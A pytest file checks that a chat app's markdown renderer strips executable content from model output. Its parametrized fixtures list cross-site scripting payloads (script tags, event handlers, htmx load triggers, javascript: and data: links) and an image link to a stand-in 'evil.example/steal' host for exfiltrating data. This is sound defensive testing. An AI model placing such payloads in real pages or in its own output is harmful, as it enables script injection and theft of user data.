"""Model output is untrusted: markdown renders, nothing executable or fetchable survives."""

import re
from html.parser import HTMLParser

import pytest

from conversations.rendering import render_markdown


def parse(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """Every element the browser would build from this HTML, with its attributes."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, [(name, value or "") for name, value in attrs]))

    Collector().feed(html)
    return found


def test_markdown_renders_code_tables_and_lists():
    html = render_markdown(
        "# Title\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx = 1 < 2\n```"
    )
    assert "<h1>Title</h1>" in html
    assert "<li>one</li>" in html
    assert "<table>" in html and "<td>1</td>" in html
    assert '<pre data-lang="python"><code>' in html
    assert "x = 1 &lt; 2\n</code></pre>" in re.sub(r"</?span[^>]*>", "", html), "escaped"


@pytest.mark.parametrize(
    "source",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="#" onclick="alert(1)">x</a>',
        '<div hx-get="/c/new/" hx-trigger="load">x</div>',
        '<p style="background:url(http://evil/)">x</p>',
        "<iframe src='http://evil/'></iframe>",
        "[click](javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
    ],
)
def test_nothing_executable_survives(source):
    tags = parse(render_markdown(source))
    for tag, attrs in tags:
        assert tag not in {"script", "img", "iframe", "style"}, (source, tags)
        for name, value in attrs:
            assert not name.startswith(("on", "hx-", "data-hx")) and name != "style", (source, tags)
            if name == "href":
                assert value.startswith(("http:", "https:", "mailto:", "#")), (source, tags)


def test_markdown_image_becomes_a_link_not_an_image():
    html = render_markdown("![secret](http://evil.example/steal?d=abc)")
    assert "<img" not in html
    assert 'href="http://evil.example/steal?d=abc"' in html
    assert "[secret]" in html


def test_links_get_noopener():
    html = render_markdown("[docs](https://example.com)")
    assert 'rel="noopener noreferrer nofollow"' in html


def test_fenced_code_is_highlighted_labelled_and_still_escaped():
    html = render_markdown('```python\nprint("<b>hi</b>")\n```')
    assert html.startswith('<pre data-lang="python"><code><span class="nb">print</span>')
    assert "&lt;b&gt;hi&lt;/b&gt;" in html and "<b>" not in html
    # An unknown language is labelled and left plain; a hostile info string is no label.
    assert render_markdown("```klingon\n<i>\n```") == (
        '<pre data-lang="klingon"><code>&lt;i&gt;\n</code></pre>\n'
    )
    hostile = render_markdown('```"><script>alert(1)</script>\nx\n```')
    assert hostile == "<pre><code>x\n</code></pre>\n"
    # Only Pygments' own classes survive on a span (model output cannot add any).
    assert 'class="evil"' not in render_markdown("```python\nx = 1\n```")


def test_the_code_stylesheet_is_what_pygments_makes():
    """static/qwenweb/pygments.css is generated: regenerate it with
    `python -m conversations.rendering > static/qwenweb/pygments.css`."""
    from pathlib import Path

    from conversations.rendering import code_stylesheet

    css = (Path(__file__).resolve().parent.parent / "static/qwenweb/pygments.css").read_text()
    assert css == code_stylesheet()
    assert ':root[data-theme="dark"] .markdown pre .k {' in css
